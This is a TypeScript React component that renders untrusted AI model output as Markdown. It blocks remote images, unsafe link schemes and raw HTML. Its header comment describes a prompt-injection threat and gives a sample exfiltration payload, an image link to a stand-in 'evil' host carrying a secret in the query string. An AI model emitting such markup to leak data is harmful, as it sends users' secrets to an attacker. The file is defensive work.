import type { ReactNode } from "react";
import ReactMarkdown, { defaultUrlTransform } from "react-markdown";

// Run data is untrusted: model output can be steered by a prompt injection. So
// - no remote images: an <img> loads by itself, and `![](https://evil/?q=SECRET)` would send
//   whatever the model was tricked into writing to that host. Same-origin images (our attachment
//   URLs) and data: images of plain raster types show; anything else is a link the user may
//   click (in a new tab: the Content-Security-Policy would refuse it in the page anyway).
// - links only for http(s), mailto and same-page URLs, with rel="noopener noreferrer nofollow";
//   javascript:, data: and other schemes are plain text.
// - raw HTML is shown as the literal text it is, never as HTML (and never silently dropped).
// Loaded on demand by Markdown.tsx.

const SAFE_DATA_IMAGE = /^data:image\/(png|jpeg|gif|webp);base64,[a-z0-9+/=\s]*$/i;
const LINK_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);

function resolve(url: string): URL | null {
  try {
    return new URL(url, window.location.href);
  } catch {
    return null;
  }
}

/** The URL react-markdown may keep: its default rules, plus data: URLs of safe raster images. */
export function urlTransform(url: string, key: string): string {
  if (key === "src" && SAFE_DATA_IMAGE.test(url)) return url;
  return defaultUrlTransform(url);
}

/** How an image source may be shown: loaded in place, offered as a link to a remote host, or not at all. */
export function imagePolicy(src: string | undefined): { kind: "inline" } | { kind: "remote"; host: string } | { kind: "blocked" } {
  if (!src) return { kind: "blocked" };
  if (SAFE_DATA_IMAGE.test(src)) return { kind: "inline" };
  const url = resolve(src);
  if (!url) return { kind: "blocked" };
  if (url.origin === window.location.origin && (url.protocol === "http:" || url.protocol === "https:")) {
    return { kind: "inline" };
  }
  if (url.protocol === "http:" || url.protocol === "https:") return { kind: "remote", host: url.host };
  return { kind: "blocked" };
}

/** A link target, or null when the href must not become a link (javascript:, data:, vbscript:, ...). */
export function safeHref(href: string | undefined): string | null {
  if (!href) return null;
  const url = resolve(href);
  return url && LINK_PROTOCOLS.has(url.protocol) ? href : null;
}

type MdNode = { type: string; value?: string; children?: MdNode[]; data?: Record<string, unknown> };

/** A remark plugin: raw HTML becomes visible text. react-markdown drops HTML nodes, so text that
 * starts with an HTML block (`<div>hello</div>\nworld`) would otherwise vanish from the view. */
function remarkHtmlAsText() {
  const visit = (node: MdNode, inBlock: boolean) => {
    node.children = node.children?.map((child) => {
      if (child.type !== "html") {
        visit(child, inBlock || child.type === "paragraph" || child.type === "heading");
        return child;
      }
      const text: MdNode = { type: "text", value: child.value ?? "" };
      // An HTML block sits where a paragraph would: wrap it, keeping its line breaks visible.
      return inBlock ? text : { type: "paragraph", children: [text], data: { hProperties: { className: ["md-html"] } } };
    });
  };
  return (tree: MdNode) => visit(tree, false);
}

function BlockedImage({ src, alt }: { src: string | undefined; alt: string }) {
  const policy = imagePolicy(src);
  if (policy.kind === "inline") return <img src={src} alt={alt} loading="lazy" />;
  const label = alt ? ` (${alt})` : "";
  if (policy.kind === "blocked") return <span className="md-img-blocked">image blocked{label}</span>;
  return (
    <a className="md-img-blocked" href={src} target="_blank" rel="noopener noreferrer nofollow" title={src}>
      remote image blocked: {policy.host} — click to open in a new tab{label}
    </a>
  );
}

function Link({ href, children }: { href: string | undefined; children?: ReactNode }) {
  const target = safeHref(href);
  if (target === null) return <span className="md-link-blocked">{children}</span>;
  return (
    <a href={target} target="_blank" rel="noopener noreferrer nofollow">
      {children}
    </a>
  );
}

export default function MarkdownRenderer({ text }: { text: string }) {
  return (
    <ReactMarkdown
      remarkPlugins={[remarkHtmlAsText]}
      urlTransform={urlTransform}
      components={{
        a: ({ href, children }) => <Link href={href}>{children}</Link>,
        img: ({ src, alt }) => <BlockedImage src={typeof src === "string" ? src : undefined} alt={alt ?? ""} />,
      }}
    >
      {text}
    </ReactMarkdown>
  );
}
